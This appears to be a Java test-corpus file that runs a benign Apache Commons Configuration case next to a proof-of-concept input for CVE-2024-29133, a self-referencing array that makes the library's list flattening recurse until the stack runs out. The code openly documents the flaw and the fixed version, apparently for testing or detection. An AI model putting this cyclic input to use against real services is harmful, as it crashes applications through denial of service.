package corpus.configuration2;

import corpus.CorpusDriver;
import org.apache.commons.configuration2.BaseConfiguration;
import org.apache.commons.configuration2.convert.DefaultListDelimiterHandler;

import java.util.Arrays;
import java.util.List;

/**
 * Apache Commons Configuration 2.10.0, CVE-2024-29133: a property value that is a cyclical object
 * tree (here an array that contains itself) makes {@code ListDelimiterHandler.flatten} recurse until
 * the stack runs out (fixed in 2.10.1).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        Object[] cyclic = new Object[2];
        cyclic[0] = "x";
        cyclic[1] = cyclic;
        CorpusDriver.run("configuration2", BaseConfiguration.class,
                () -> {
                    BaseConfiguration config = configuration();
                    config.addProperty("name", "benign");
                    config.addProperty("items", new Object[] {"1", List.of("2", new String[] {"3"})});
                    config.addProperty("list", "a,b,c");
                    return config.getString("name") + " " + config.getList("items") + " " + config.getList("list");
                },
                () -> {
                    BaseConfiguration config = configuration();
                    config.addProperty("cyclic", cyclic);
                    return Arrays.toString(config.getStringArray("cyclic"));
                });
    }

    static BaseConfiguration configuration() {
        BaseConfiguration config = new BaseConfiguration();
        config.setListDelimiterHandler(new DefaultListDelimiterHandler(','));
        return config;
    }
}
